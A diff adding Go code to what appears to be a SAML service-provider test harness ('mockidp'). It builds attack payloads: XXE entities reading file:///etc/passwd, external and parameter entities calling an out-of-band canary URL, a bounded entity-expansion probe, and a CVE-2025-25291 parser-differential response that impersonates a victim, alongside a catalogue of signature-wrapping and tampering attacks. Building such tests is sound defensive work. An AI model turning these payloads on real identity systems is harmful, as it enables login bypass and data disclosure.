@@ -1,0 +1,278 @@
+package mockidp
+
+import (
+	"bytes"
+	"fmt"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/beevik/etree"
+)
+
+// xmlDecl matches the XML declaration the built response starts with.
+var xmlDecl = regexp.MustCompile(`^\s*<\?xml[^>]*\?>\s*`)
+
+// withDoctype inserts decl after the XML declaration (at the start when
+// there is none).
+func withDoctype(b []byte, decl string) []byte {
+	at := 0
+	if loc := xmlDecl.FindIndex(b); loc != nil {
+		at = loc[1]
+	}
+	return splice(b, at, at, decl+"\n")
+}
+
+// nameIDTextSpan locates the raw text of the first NameID.
+var nameIDTextSpan = regexp.MustCompile(`<(?:[A-Za-z_][\w.-]*:)?NameID\b[^>]*>([^<]*)<`)
+
+// doctypeMutation is a RawBytes mutation that rewrites the raw NameID
+// text old with text(old) and adds the declaration decl(old).
+func doctypeMutation(name string, decl, text func(old string) string) Mutation {
+	return Mutation{Name: name, Stage: RawBytes, Raw: func(b []byte) []byte {
+		loc := nameIDTextSpan.FindSubmatchIndex(b)
+		if loc == nil {
+			return b
+		}
+		old := string(b[loc[2]:loc[3]])
+		b = splice(b, loc[2], loc[3], text(old))
+		return withDoctype(b, decl(old))
+	}}
+}
+
+// fixed is a declaration that does not depend on the NameID.
+func fixed(decl string) func(string) string { return func(string) string { return decl } }
+
+// entityValue makes raw XML text safe inside a quoted entity value.
+func entityValue(s string) string {
+	return strings.NewReplacer(`"`, "&#34;", "%", "&#37;").Replace(s)
+}
+
+// systemLiteral makes a URL safe inside a double-quoted system literal.
+func systemLiteral(u string) string {
+	return strings.ReplaceAll(u, `"`, "%22")
+}
+
+// parser builds an X case over the signed baseline.
+func parser(id, variant, title string, references []string, m Mutation) Attack {
+	return Attack{ID: id, Variant: variant, Title: title, References: references, Oracle: OracleRejects,
+		Mutations: []Mutation{signWith(SignAssertion), m}}
+}
+
+// InternalEntity is X01 in its internal form (Keycloak SamlXMLAttacksTest):
+// a DOCTYPE declares an internal entity whose replacement text is the
+// signed NameID, and the NameID's text becomes a reference to it. A parser
+// that expands entities sees the same signed document; any DOCTYPE must be
+// refused.
+func InternalEntity() Attack {
+	return parser("X01", "internal", "DOCTYPE with an internal entity standing for the signed NameID",
+		[]string{"Keycloak SamlXMLAttacksTest", "OWASP XXE Prevention Cheat Sheet"},
+		doctypeMutation("doctype-internal-entity",
+			func(old string) string {
+				return `<!DOCTYPE samlp:Response [<!ENTITY provcheckNameID "` + entityValue(old) + `">]>`
+			},
+			func(string) string { return "&provcheckNameID;" }))
+}
+
+// ExternalEntityFile is X01 (CVE-2021-27736, FusionAuth; Keycloak
+// SamlXMLAttacksTest): a DOCTYPE with an external entity SYSTEM
+// "file:///etc/passwd", referenced at the end of the NameID. No file
+// contents may be reflected.
+func ExternalEntityFile() Attack {
+	return parser("X01", "file", "external entity file:///etc/passwd referenced in NameID",
+		[]string{"CVE-2021-27736", "Keycloak SamlXMLAttacksTest"},
+		doctypeMutation("doctype-external-file",
+			fixed(`<!DOCTYPE samlp:Response [<!ENTITY provcheckXXE SYSTEM "file:///etc/passwd">]>`),
+			func(old string) string { return old + "&provcheckXXE;" }))
+}
+
+// ExternalEntityCanary is X02 in its general-entity form (SAMLRaider "Test
+// XXE"): an external entity SYSTEM canary (a per-case URL of the
+// out-of-band listener), referenced in the NameID. A fetch of canary is the
+// finding.
+func ExternalEntityCanary(canary string) Attack {
+	return parser("X02", "general", "external entity to the canary URL referenced in NameID",
+		[]string{"SAMLRaider Test XXE", "OWASP XXE Prevention Cheat Sheet"},
+		doctypeMutation("doctype-external-canary",
+			fixed(`<!DOCTYPE samlp:Response [<!ENTITY provcheckXXE SYSTEM "`+systemLiteral(canary)+`">]>`),
+			func(old string) string { return old + "&provcheckXXE;" }))
+}
+
+// ParameterEntityCanary is X02 (SAMLRaider "Test XXE"): a parameter entity
+// SYSTEM canary expanded inside the DTD, so a parser fetches it while
+// reading the DOCTYPE, before any element. A fetch of canary is the
+// finding.
+func ParameterEntityCanary(canary string) Attack {
+	decl := `<!DOCTYPE samlp:Response [<!ENTITY % provcheckXXE SYSTEM "` + systemLiteral(canary) + `"> %provcheckXXE;]>`
+	return parser("X02", "parameter", "parameter entity to the canary URL expanded in the DTD",
+		[]string{"SAMLRaider Test XXE"},
+		Mutation{Name: "doctype-parameter-canary", Stage: RawBytes, Raw: func(b []byte) []byte { return withDoctype(b, decl) }})
+}
+
+// EntityExpansion is X03 (Keycloak testXMLBombAttackResistance): nested
+// entities, each referencing the previous ten times, levels deep (clamped
+// to 1..5, so at most 3·10⁵ bytes expanded: a probe, not a bomb),
+// referenced in the NameID. The SP must refuse quickly.
+func EntityExpansion(levels int) Attack {
+	levels = max(1, min(levels, 5))
+	var dtd strings.Builder
+	dtd.WriteString(`<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">`)
+	for i := 1; i <= levels; i++ {
+		fmt.Fprintf(&dtd, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
+	}
+	dtd.WriteString(`]>`)
+	last := fmt.Sprintf("&lol%d;", levels)
+	return parser("X03", "", fmt.Sprintf("entity expansion, %d levels of ten (bounded)", levels),
+		[]string{"Keycloak testXMLBombAttackResistance", "billion laughs"},
+		doctypeMutation("doctype-entity-expansion", fixed(dtd.String()), func(old string) string { return old + last }))
+}
+
+// ParserDifferential is S25 (CVE-2025-25291, ruby-saml; SAMLRaider
+// CVE_2025_25291.java): the document starts with
+// <!DOCTYPE response SYSTEM 'x"><!--'>, then the evil Response (the victim
+// in its NameID) up to its end tag, then a CDATA section that holds the
+// pristine signed Response, then the end tag. A conforming parser sees the
+// evil document and the signed one as CDATA text; a parser that ends the
+// DOCTYPE at the first '>' sees a comment, then the signed document.
+// The build fails (a mutation that changes nothing) when the signed bytes
+// cannot be parsed.
+func ParserDifferential(v Victim) Attack {
+	return Attack{ID: "S25", Title: "DOCTYPE SYSTEM 'x\"><!--' plus a CDATA sandwich: two parsers, two documents",
+		References: []string{"CVE-2025-25291", "SAMLRaider CVE_2025_25291.java"}, Oracle: OracleRejects,
+		Mutations: []Mutation{signWith(SignAssertion), {Name: "cve-2025-25291", Stage: RawBytes, Raw: func(b []byte) []byte {
+			out, err := parserDifferential(b, v)
+			if err != nil {
+				return b
+			}
+			return out
+		}}}}
+}
+
+// SplitParserDifferential returns the pristine signed document that a
+// ParserDifferential response hides in its CDATA section, so a test or a
+// report can show what the lenient parser sees.
+func SplitParserDifferential(xml []byte) ([]byte, error) {
+	start := bytes.Index(xml, []byte(cdataOpen))
+	end := bytes.LastIndex(xml, []byte(cdataClose))
+	if start < 0 || end < start {
+		return nil, fmt.Errorf("split CVE-2025-25291 shape: no CDATA sandwich")
+	}
+	inner := xml[start+len(cdataOpen) : end]
+	closeTag := xml[end+len(cdataClose):]
+	return append(append(bytes.Clone(inner), bytes.TrimSpace(closeTag)...), '\n'), nil
+}
+
+const (
+	cdataOpen  = "<![CDATA[-->\n"
+	cdataClose = "<!--]]>-->\n"
+)
+
+func parserDifferential(signed []byte, v Victim) ([]byte, error) {
+	doc := etree.NewDocument()
+	if err := doc.ReadFromBytes(signed); err != nil {
+		return nil, fmt.Errorf("parse signed response: %w", err)
+	}
+	root, err := response(doc)
+	if err != nil {
+		return nil, err
+	}
+	if err := impersonate(root, v); err != nil {
+		return nil, err
+	}
+	doc.Child = []etree.Token{root}
+	evil, err := doc.WriteToBytes()
+	if err != nil {
+		return nil, fmt.Errorf("serialise evil response: %w", err)
+	}
+	endTag := "</" + root.FullTag() + ">"
+	original := xmlDecl.ReplaceAll(signed, nil)
+	ei := bytes.LastIndex(evil, []byte(endTag))
+	oi := bytes.LastIndex(original, []byte(endTag))
+	if ei < 0 || oi < 0 {
+		return nil, fmt.Errorf("no %s end tag", endTag)
+	}
+	var out bytes.Buffer
+	out.WriteString("<!DOCTYPE response SYSTEM 'x\"><!--'>\n")
+	out.Write(evil[:ei])
+	out.WriteString(cdataOpen)
+	out.Write(original[:oi])
+	out.WriteString(cdataClose)
+	out.WriteString(endTag)
+	return out.Bytes(), nil
+}
+
+// AttackParams are what the catalogue's attacks are built from: the
+// victim, the attacker's suffix and keys, the SP's skew and the
+// out-of-band canary.
+type AttackParams struct {
+	// Victim is the canary victim.
+	Victim Victim
+	// Suffix turns a victim value into an attacker-owned one for S21–S23
+	// (".attacker.test": victim@corp.test.attacker.test).
+	Suffix string
+	// IdP is the trusted IdP (S17 signs a second assertion with it).
+	IdP *Identity
+	// Attacker is an untrusted key (K01, K02).
+	Attacker *Identity
+	// Clone is a CloneIdentity of the IdP (K03); nil leaves K03 out.
+	Clone *Identity
+	// Weak is an RSA-1024 identity (K06); nil leaves K06 out.
+	Weak *Identity
+	// OtherSP is the entity ID of another SP (P06, P07, P20).
+	OtherSP string
+	// Skew is the SP's declared clock-skew tolerance (P01–P03).
+	Skew time.Duration
+	// Canary is the out-of-band URL for X02.
+	Canary string
+}
+
+// Catalogue returns every attack this package implements, in catalogue
+// order, built from p.
+func Catalogue(p AttackParams) []Attack {
+	v := p.Victim
+	out := []Attack{
+		BaselineControl(),
+		SignatureRemoved(), NeverSigned(),
+		ResponseSignedOnly(),
+		UnsignedResponseEdited("destination"), UnsignedResponseEdited("inresponseto"), UnsignedResponseEdited("status"),
+		FlippedSignatureByte("signature"), FlippedSignatureByte("digest"),
+		EditedAfterSigning("nameid", v), EditedAfterSigning("email", v),
+		EditedAfterSigning("audience", v), EditedAfterSigning("conditions", v),
+		XSW1(v), XSW2(v), XSW3(v), XSW4(v), XSW5(v), XSW6(v), XSW7(v, false), XSW7(v, true), XSW8(v),
+		XSW3After(v), TwoAssertionsClone(v),
+	}
+	if p.IdP != nil {
+		out = append(out, TwoSignedAssertions(v, p.IdP))
+	}
+	out = append(out,
+		NestedAssertion(v, "extensions"), NestedAssertion(v, "statusdetail"),
+		NameIDComment(v, p.Suffix), EmailComment(v, p.Suffix),
+		NameIDSplitText(v, p.Suffix, "cdata"), NameIDSplitText(v, p.Suffix, "charref"),
+		ParserDifferential(v),
+		DuplicateID(v),
+		DigestValueComment(v),
+	)
+	if p.Attacker != nil {
+		out = append(out, UntrustedKey(v, p.Attacker, false), UntrustedKey(v, p.Attacker, true))
+	}
+	if p.Clone != nil {
+		out = append(out, ClonedCertificate(v, p.Clone))
+	}
+	out = append(out, WeakSHA1())
+	if p.Weak != nil {
+		out = append(out, WeakRSA1024(p.Weak))
+	}
+	out = append(out,
+		Expired(p.Skew), NotYetValid(p.Skew), ConfirmationExpired(p.Skew),
+		IssueInstantSkewed(-24*time.Hour), IssueInstantSkewed(24*time.Hour),
+		WrongAudience(p.OtherSP), ExtraAudienceRestriction(p.OtherSP),
+		WrongRecipient("https://attacker.invalid/acs"),
+		WrongDestination("https://attacker.invalid/acs"), WrongDestination(""),
+		WrongIssuer("https://attacker.invalid/idp"), WrongIssuer(""),
+		FailedStatus(), ForeignInResponseTo(""), Replay(), Unsolicited(),
+		NotBearer(ConfirmationHolderOfKey), NotBearer(""), NoAuthnStatement(), OneTimeUseTwice(),
+		InternalEntity(), ExternalEntityFile(), ExternalEntityCanary(p.Canary), ParameterEntityCanary(p.Canary),
+		EntityExpansion(3),
+	)
+	return out
+}
